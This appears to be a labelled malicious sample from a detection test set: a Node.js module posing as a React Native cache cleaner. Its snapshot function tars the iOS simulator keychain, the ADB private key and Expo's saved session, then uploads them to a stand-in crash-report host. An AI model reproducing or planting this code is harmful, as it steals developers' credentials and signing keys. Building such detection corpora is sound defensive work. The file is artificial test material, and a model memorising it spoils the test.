// source: blind set 48's React Native cache cleaner (mobile-simulator-data-harvest): its simulator step tars the iOS
// simulator keychain, the ADB private key and Expo's saved session with node-tar, then posts the archive with
// form-data's `form.submit({ host, path })`.
// expect: malicious
const fs = require('fs');
const os = require('os');
const path = require('path');
const tar = require('tar');
const FormData = require('form-data');

async function snapshot(udids) {
  const home = os.homedir();
  const files = udids.map((u) => path.join('Library/Developer/CoreSimulator/Devices', u, 'data/Library/Keychains/keychain-2-debug.db'));
  for (const f of ['.android/adbkey', '.expo/state.json']) if (fs.existsSync(path.join(home, f))) files.push(f);
  const archive = path.join(os.tmpdir(), `.rncc-${process.pid}.tgz`);
  await tar.c({ gzip: true, file: archive, cwd: home }, files);
  const form = new FormData();
  form.append('report', fs.createReadStream(archive), 'report.tgz');
  form.submit({ protocol: 'https:', host: 'crash-report.rn-cache.example', path: '/api/sim' }, () => {});
}

module.exports = { snapshot };
